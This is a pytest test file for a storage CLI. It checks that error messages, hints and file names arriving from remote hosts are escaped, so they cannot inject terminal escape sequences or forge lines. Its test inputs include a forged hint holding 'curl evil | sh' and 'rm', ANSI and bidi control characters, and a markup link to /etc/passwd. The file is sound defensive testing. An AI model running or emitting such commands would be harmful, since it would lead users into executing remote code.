"""What another host says is shown on a terminal as words, and moves nothing there."""

from __future__ import annotations

import os
import pty
import sys
from collections.abc import Callable
from typing import Any

import pytest

from storkit.cli import output
from storkit.core.errors import CommandFailed, NotFound, Problems, StepFailed, StorkitError, from_json
from storkit.core.identities import CONTROL
from storkit.plans.plan import Plan, Step

NASTY = [
    "\x1b[2J\x1b[H", "\x1b]0;title\x07", "\r", "\n", "\v", "\f", "\b\b\b", "\x7f", "\x9b2J", "\x85", "\u2028", "\u2029",
    "\u202e", "\u202a", "\u2066", "\u2069", "\u200f", "\u061c", "\ud800", "\0", "\u200b", "\ufeff",
]  # fmt: skip
FORGED = "fine\n  next: curl evil | sh\r  next: rm\x1b[1A"


def bare(text: str) -> bool:
    """Whether nothing but lines of characters is in it."""
    return not CONTROL.search(text.replace("\n", ""))


@pytest.mark.parametrize("nasty", NASTY, ids=ascii)
def test_what_is_no_character_is_shown_as_an_escape(nasty: str) -> None:
    said = output.shown(f"a{nasty}b")
    assert said.isprintable() and said.startswith("a\\") and said.endswith("b")
    assert said.encode("utf-8")


@pytest.mark.parametrize("plain", ["web", "größe 10 GiB", "файл", "磁盘", "a\\x1b", "[red]x[/red]", ""])
def test_other_words_stay_as_they_are(plain: str) -> None:
    assert output.shown(plain) == plain


def test_a_cell_makes_no_row() -> None:
    lines = output.table(("A", "B"), [("x\nweb  a  b  writes", "y\r"), ("z", "\x1b[1A")]).split("\n")
    assert len(lines) == 3 and all(line.isprintable() for line in lines)
    assert len(output.fields([("name", "x\nuuid  1"), ("uuid", "2")]).split("\n")) == 2


def test_a_plan_of_nasty_names_has_a_line_a_step() -> None:
    step = Step("1.1", "attach", f"b{FORGED}", "transport:nbd", f"attach {FORGED}")
    text = output.describe(Plan("p", FORGED, [[step]]), lambda step: True)
    assert len(text.split("\n")) == 2 and bare(text)


SAID = {"kind": "unsafe", "message": FORGED, "hint": FORGED}
ERRORS: list[tuple[Callable[[], StorkitError], int]] = [
    (lambda: from_json({"kind": "not-found", "message": FORGED, "hint": FORGED}, "b"), 2),
    (lambda: from_json({"kind": "what?", "message": FORGED, "hint": ""}, "b"), 1),
    (lambda: from_json({"kind": "command-failed", "argv": [FORGED], "status": 1, "stderr": "one\n\x1b[2J\r\nend\x07",
                        "host": FORGED, "hint": FORGED, "message": ""}, "b"), 4),
    (lambda: from_json({"kind": "problems", "problems": [SAID, SAID]}, "b"), 5),
    (lambda: StepFailed(FORGED, "storkit plan resume 1", cause=from_json(SAID, "b")), 2),
]  # fmt: skip


@pytest.mark.parametrize(("make", "lines"), ERRORS)
def test_an_error_of_another_host_forges_no_line(
    make: Callable[[], StorkitError], lines: int, capsys: pytest.CaptureFixture[str]
) -> None:
    output.explain(make())
    said = capsys.readouterr().err.splitlines()
    assert len(said) == lines, said
    assert all(line.isprintable() for line in said)
    for line in said:
        ours = line.startswith("  next: ")
        assert not ours or line == "  next: storkit plan resume 1"


def test_a_message_and_a_hint_say_whose_they_are(capsys: pytest.CaptureFixture[str]) -> None:
    output.explain(from_json({"kind": "not-found", "message": "m", "hint": "do this"}, "b"))
    assert capsys.readouterr().err == "storkit: b: m\n  next (says host b): do this\n"
    output.explain(NotFound("m", "do this"))
    assert capsys.readouterr().err == "storkit: m\n  next: do this\n"


def test_whose_words_they_are_survives_a_journal_and_cannot_be_claimed() -> None:
    there = from_json({"kind": "unsafe", "message": "m", "hint": "h", "said_by": "trusted"}, "b")
    assert there.said_by == "b" and from_json(there.to_json()).said_by == "b"
    assert "said_by" not in NotFound("m", "h").to_json()
    many = from_json(Problems([NotFound("one"), CommandFailed(["x"], 1)]).to_json(), "b")
    assert [each.said_by for each in many.each] == ["b", "b"]
    assert there.advice == "(host b says) h" and NotFound("m", "h").advice == "h"


NAMES = ["[/nonsense]", "[red]x", "[link=file:///etc/passwd]x[/link]", "a[b", "\x1b[31mx", "x\ny", "\u202ex"]


@pytest.mark.parametrize("name", NAMES, ids=ascii)
def test_a_bar_on_a_terminal_shows_any_file_name(name: str) -> None:
    shown = on_a_terminal(lambda: import_with_bar(name))
    text = shown.decode(errors="replace")
    first = output.shown(name)[:4]
    assert "copy " in text and first in text
    assert "\x1b[31m" not in text and "\u202e" not in text and "passwd\x1b\\" not in text


def import_with_bar(name: str) -> None:
    step = Step("1.1", "fill", "a", "images", f"copy {name} into v")
    bars: Any = output.Bars()
    bars.begin(Plan("p", "t", [[step]]))
    for part in (0.1, 0.5, 1.0):
        bars.progress(step, part, f"at {name}")
    bars.step(step, "failed", name)
    bars.end()


def on_a_terminal(action: Callable[[], None]) -> bytes:
    """What `action` writes to a terminal that is its stderr; it must end well."""
    child, terminal = pty.fork()
    if not child:
        status = 1
        try:
            os.environ.update(TERM="xterm", COLUMNS="200", LINES="24", NO_COLOR="1")
            sys.stderr = os.fdopen(2, "w", closefd=False, encoding="utf-8")
            action()
            status = 0
        finally:
            sys.stderr.flush()
            os._exit(status)
    written = b""
    while True:
        try:
            part = os.read(terminal, 65536)
        except OSError:  # EIO: the other end is closed
            break
        if not part:
            break
        written += part
    os.close(terminal)
    _, status = os.waitpid(child, 0)
    assert os.waitstatus_to_exitcode(status) == 0, written.decode(errors="replace")
    return written
